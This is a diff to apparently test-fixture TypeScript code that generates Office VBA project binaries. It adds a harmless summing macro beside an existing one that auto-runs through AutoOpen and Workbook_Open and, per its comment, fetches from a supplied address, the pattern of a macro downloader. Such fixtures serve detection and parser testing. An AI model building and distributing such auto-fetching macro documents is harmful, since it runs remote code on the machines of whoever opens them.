@@ -54,8 +54,8 @@ function directory(module: string): Buffer {
   ]);
 }
 
-function macro(fetches: string): Buffer {
-  const source = [
+function macro(fetches: string | undefined): Buffer {
+  const source = fetches === undefined ? 'Attribute VB_Name = "ThisDocument"\r\nSub Goukei()\r\n  Range("B10").Value = WorksheetFunction.Sum(Range("B2:B9"))\r\nEnd Sub\r\n' : [
     'Attribute VB_Name = "ThisDocument"',
     'Sub AutoOpen()', '  Call Hajime', 'End Sub',
     'Sub Workbook_Open()', '  Call Hajime', 'End Sub',
@@ -76,7 +76,7 @@ function compound(streams: Readonly<Record<string, Uint8Array>>): Uint8Array {
   return written as Uint8Array;
 }
 
-function projectStreams(fetches: string, prefix: string): Record<string, Uint8Array> {
+function projectStreams(fetches: string | undefined, prefix: string): Record<string, Uint8Array> {
   return {
     [`${prefix}VBA/dir`]: compress(directory('ThisDocument')),
     [`${prefix}VBA/_VBA_PROJECT`]: Buffer.from('cc61ffff00000000', 'hex'),
@@ -85,8 +85,8 @@ function projectStreams(fetches: string, prefix: string): Record<string, Uint8Ar
   };
 }
 
-/** vbaProject.bin: one module that runs on opening and fetches from the given address. */
-export function vbaProject(fetches: string): Uint8Array {
+/** vbaProject.bin: one module that runs on opening and fetches from the given address, or a harmless one when there is none. */
+export function vbaProject(fetches?: string): Uint8Array {
   return compound(projectStreams(fetches, ''));
 }
 
